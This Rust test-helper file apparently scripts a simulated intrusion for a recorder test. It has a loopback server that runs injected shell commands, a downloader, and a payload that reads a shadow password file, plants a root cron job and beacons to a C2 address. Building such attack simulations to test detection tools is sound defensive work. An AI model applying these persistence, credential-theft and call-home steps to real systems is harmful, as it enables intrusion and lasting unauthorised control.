//! The steps of the recorder test's scripted intrusion: a "web server" that runs what a request
//! tells it to (a command injection), a downloader, and the payload it fetches.

use std::{
    io::{Read, Write},
    net::{TcpListener, TcpStream},
    process::Command,
};

/// Listens on 127.0.0.1 (its port written to `port_file`), takes one request and runs
/// `/bin/sh -c SCRIPT` for it — the injected command — then answers and exits.
pub fn websrv(port_file: &str, script: &str) {
    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
    std::fs::write(port_file, l.local_addr().expect("addr").port().to_string()).expect("port file");
    let (mut s, _) = l.accept().expect("accept");
    osprey_tests::read_http_head(&mut s);
    let status = Command::new("/bin/sh").arg("-c").arg(script).status().expect("sh");
    let _ = write!(s, "HTTP/1.0 200 OK\r\n\r\n{status}\n");
}

/// HTTP/1.0 GET of `url` (http://127.0.0.1:PORT/PATH) into `out`.
pub fn fetch(url: &str, out: &str) {
    let rest = url.strip_prefix("http://").expect("http:// URL");
    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
    let mut s = TcpStream::connect(host).expect("connect");
    // One write: `write!` on an unbuffered stream sends each formatted piece separately.
    s.write_all(format!("GET /{path} HTTP/1.0\r\nHost: {host}\r\n\r\n").as_bytes()).expect("request");
    let mut body = Vec::new();
    s.read_to_end(&mut body).expect("response");
    let start = body.windows(4).position(|w| w == b"\r\n\r\n").expect("headers end") + 4;
    std::fs::write(out, &body[start..]).expect("write the download");
}

/// What the payload does: reads the password hashes, plants a cron job, calls home.
pub fn payload(shadow: &str, cron: &str, c2: &str) {
    let _ = std::fs::read(shadow).expect("read shadow");
    std::fs::write(cron, "* * * * * root /tmp/.x/payload\n").expect("write cron");
    let mut s = TcpStream::connect(c2).expect("connect to C2");
    let _ = s.write_all(b"beacon\n");
}
